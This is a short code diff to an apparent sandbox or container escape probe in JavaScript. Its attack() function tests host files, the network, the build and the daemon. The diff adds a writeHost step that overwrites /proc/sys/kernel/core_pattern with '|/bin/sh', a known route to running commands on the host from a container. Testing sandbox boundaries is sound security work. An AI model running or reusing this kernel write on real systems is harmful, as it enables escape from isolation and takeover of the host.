@@ -41,8 +41,8 @@ function connects([host, port]) {
   });
 }
 
-/** What the host holds. */
-function readHost() {
+/** What the host holds: only looks, so that it can be tried outside a box as well. */
+export function readHost() {
   for (const file of HOST_FILES) {
     tryTo(`read ${file}`, () => fs.existsSync(file));
   }
@@ -58,6 +58,9 @@ function readHost() {
         }
       }),
   );
+}
+
+function writeHost() {
   tryTo("write the host's kernel settings", () => {
     fs.writeFileSync("/proc/sys/kernel/core_pattern", "|/bin/sh");
     return true;
@@ -101,6 +104,7 @@ function leaveDaemon() {
 
 export async function attack() {
   readHost();
+  writeHost();
   await reachNetwork();
   changeBuild();
   leaveDaemon();
